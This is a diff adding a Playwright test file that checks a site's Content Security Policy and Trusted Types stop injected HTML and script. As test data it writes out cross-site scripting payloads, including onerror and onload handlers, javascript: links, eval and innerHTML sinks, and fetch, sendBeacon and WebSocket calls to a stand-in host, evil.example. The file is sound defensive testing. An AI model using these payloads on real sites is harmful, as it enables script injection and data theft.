@@ -1,0 +1,191 @@
+import type { Page } from '@playwright/test'
+import { sidebarLink } from './sidebar-link.ts'
+import { expect, hydrated, test } from './test.ts'
+import { withoutPrefetch } from './without-prefetch.ts'
+
+type Attack = { readonly html: string; readonly stoppedBy: string }
+
+/** HTML of a stranger in the content, and the directive that stops it. */
+const markup: Readonly<Record<string, Attack>> = {
+  'an inline handler': { html: '<img src="/nope.png" alt="" onerror="attack()">', stoppedBy: 'script-src-attr' },
+  'a handler of a drawing': { html: '<svg onload="attack()"></svg>', stoppedBy: 'script-src-attr' },
+  'an element that handles its own focus': {
+    html: '<input autofocus onfocus="attack()" aria-label="x">',
+    stoppedBy: 'script-src-attr',
+  },
+  'a frame': { html: '<iframe src="/404.html" title="x"></iframe>', stoppedBy: 'frame-src' },
+  'a frame with a document of its own': {
+    html: '<iframe srcdoc="<script>parent.attack()</script>" title="x"></iframe>',
+    stoppedBy: 'script-src-elem',
+  },
+  'a plug-in': { html: '<object data="/404.html"></object>', stoppedBy: 'object-src' },
+  'an inline style': { html: '<p style="position:fixed">x</p>', stoppedBy: 'style-src-attr' },
+  'a style sheet': { html: '<style>main { display: none }</style>', stoppedBy: 'style-src-elem' },
+  'a style sheet of another host': {
+    html: '<link rel="stylesheet" href="https://evil.example/x.css">',
+    stoppedBy: 'style-src-elem',
+  },
+  'an image of another host': { html: '<img src="https://evil.example/x.png" alt="">', stoppedBy: 'img-src' },
+  'a film of another host': { html: '<video src="https://evil.example/x.webm"></video>', stoppedBy: 'media-src' },
+}
+
+/** What only a document's own parser runs. */
+const elements: Readonly<Record<string, Attack>> = {
+  'an inline script': { html: '<script>attack()</script>', stoppedBy: 'script-src-elem' },
+  'an inline module': { html: '<script type="module">attack()</script>', stoppedBy: 'script-src-elem' },
+  'a script of another host': {
+    html: '<script src="https://evil.example/x.js"></script>',
+    stoppedBy: 'script-src-elem',
+  },
+  'a script in its own address': {
+    html: '<script src="data:text/javascript,attack()"></script>',
+    stoppedBy: 'script-src-elem',
+  },
+  'another base': { html: '<base href="https://evil.example/">', stoppedBy: 'base-uri' },
+}
+
+/** What a script would do to run words: one that is the site's own, and has been fooled. */
+const sinks: Readonly<Record<string, { readonly script: string; readonly stoppedBy: string }>> = {
+  eval: { script: 'eval("attack()")', stoppedBy: 'require-trusted-types-for' },
+  'new Function': { script: 'new Function("attack()")()', stoppedBy: 'require-trusted-types-for' },
+  'a timer of words': { script: 'setTimeout("attack()")', stoppedBy: 'require-trusted-types-for' },
+  'HTML from words': {
+    script: 'document.querySelector("main").innerHTML = "<img src=x onerror=attack()>"',
+    stoppedBy: 'require-trusted-types-for',
+  },
+  'HTML beside an element': {
+    script: 'document.body.insertAdjacentHTML("beforeend", "<b>x</b>")',
+    stoppedBy: 'require-trusted-types-for',
+  },
+  'a document from words': {
+    script: 'document.write("<script>attack()</" + "script>")',
+    stoppedBy: 'require-trusted-types-for',
+  },
+  'the address of a script': {
+    script: 'document.createElement("script").src = "https://evil.example/x.js"',
+    stoppedBy: 'require-trusted-types-for',
+  },
+  'a handler in an attribute': {
+    script: 'document.body.setAttribute("onclick", "attack()")',
+    stoppedBy: 'require-trusted-types-for',
+  },
+  'another policy': {
+    script: 'trustedTypes.createPolicy("evil", { createHTML: (x) => x })',
+    stoppedBy: 'trusted-types',
+  },
+  'a module of another host': { script: 'import("https://evil.example/x.js")', stoppedBy: 'script-src-elem' },
+  'a request to another host': { script: 'fetch("https://evil.example/")', stoppedBy: 'connect-src' },
+  'a message to another host': { script: 'navigator.sendBeacon("https://evil.example/")', stoppedBy: 'connect-src' },
+  'a socket': { script: 'new WebSocket("wss://evil.example/")', stoppedBy: 'connect-src' },
+}
+
+type Seen = { readonly ran: number; readonly reports: readonly string[] }
+
+/** Notes each time words of a stranger run, and what the browser reports. */
+async function watch(page: Page): Promise<() => Promise<Seen>> {
+  await page.addInitScript(() => {
+    // What happens in a frame of the page is told by the page; the one of an error page may not ask for it.
+    const own = { ran: 0, reports: [] as string[] }
+    const seen = origin === 'null' ? own : ((window.top as unknown as { seen?: typeof own }).seen ?? own)
+    Object.assign(window, { seen, attack: () => seen.ran++ })
+    addEventListener('securitypolicyviolation', ({ effectiveDirective }) => seen.reports.push(effectiveDirective))
+  })
+  return () => page.evaluate(() => (window as unknown as { seen: Seen }).seen)
+}
+
+async function expectStopped(look: () => Promise<Seen>, attacks: readonly { readonly stoppedBy: string }[]) {
+  const directives = attacks.map(({ stoppedBy }) => stoppedBy).sort()
+  await expect.poll(async () => [...new Set((await look()).reports)].sort()).toEqual([...new Set(directives)])
+  expect((await look()).reports.length).toBeGreaterThanOrEqual(directives.length)
+  expect((await look()).ran).toBe(0)
+}
+
+/** Has the document of a page end with some more HTML. */
+async function append(page: Page, html: string): Promise<void> {
+  await page.route('**/cirql/guide/', async (request) => {
+    const response = await request.fetch()
+    await request.fulfill({ response, body: (await response.text()).replace('</head>', `${html}</head>`) })
+  })
+}
+
+test('HTML in the content of a piece: nothing of it runs, nothing is loaded, and each attempt is reported', async ({
+  page,
+  open,
+  violations,
+}) => {
+  await withoutPrefetch(page)
+  const look = await watch(page)
+  const attacks = Object.values(markup)
+  await page.route('**/cirql/guide/install.json', async (request) => {
+    const response = await request.fetch()
+    const piece = await response.json()
+    const tree = [attacks.map(({ html }) => html).join('')]
+    await request.fulfill({ response, json: { ...piece, page: { ...piece.page, tree } } })
+  })
+  await open('/cirql/guide/')
+  await sidebarLink(page, 'Installation').click()
+  await expect(page).toHaveTitle('Installation | the studio')
+  await expectStopped(look, attacks)
+  expect(violations.splice(0).length).toBeGreaterThanOrEqual(attacks.length)
+})
+
+test('an address that is a script, and a form, in the content: following them does nothing, and is reported', async ({
+  page,
+  open,
+  violations,
+}) => {
+  await withoutPrefetch(page)
+  const look = await watch(page)
+  await page.route('**/cirql/guide/install.json', async (request) => {
+    const response = await request.fetch()
+    const piece = await response.json()
+    const html =
+      '<a href="javascript:attack()">link</a><form action="https://evil.example/"><button>send</button></form>'
+    await request.fulfill({ response, json: { ...piece, page: { ...piece.page, tree: [html] } } })
+  })
+  await open('/cirql/guide/')
+  await sidebarLink(page, 'Installation').click()
+  await page.getByRole('link', { name: 'link', exact: true }).click()
+  await expectStopped(look, [{ stoppedBy: 'script-src-elem' }])
+  // A navigation that is stopped has no end to wait for.
+  await page.getByRole('button', { name: 'send' }).click({ noWaitAfter: true })
+  await expect.poll(() => violations.filter((text) => text.includes("form-action 'none'"))).toHaveLength(1)
+  expect(page.url()).toMatch(/\/cirql\/guide\/install$/)
+  violations.length = 0
+})
+
+test('elements in the document itself: nothing of them runs, and each is reported', async ({
+  page,
+  host,
+  violations,
+}) => {
+  const look = await watch(page)
+  const attacks = Object.values(elements)
+  await append(page, attacks.map(({ html }) => html).join(''))
+  await page.goto(`${host.origin}/cirql/guide/`)
+  await hydrated(page)
+  await expectStopped(look, attacks)
+  expect(await page.evaluate(() => document.baseURI)).toBe(`${host.origin}/cirql/guide/`)
+  expect(violations.splice(0).length).toBeGreaterThanOrEqual(attacks.length)
+})
+
+test('a script of the site that is fooled into running words: they do not run, and each attempt is reported', async ({
+  page,
+  host,
+  violations,
+  pageErrors,
+}) => {
+  const look = await watch(page)
+  const attacks = Object.values(sinks)
+  const script = attacks.map((sink) => `try { ${sink.script} } catch (error) {}`).join('\n')
+  await page.route('**/assets/fooled.js', (request) =>
+    request.fulfill({ contentType: 'text/javascript', body: script }),
+  )
+  await append(page, '<script defer src="/assets/fooled.js"></script>')
+  await page.goto(`${host.origin}/cirql/guide/`)
+  await hydrated(page)
+  await expectStopped(look, attacks)
+  violations.length = 0
+  // What is asked for later, such as a module of another host, is refused later.
+  pageErrors.length = 0
+})
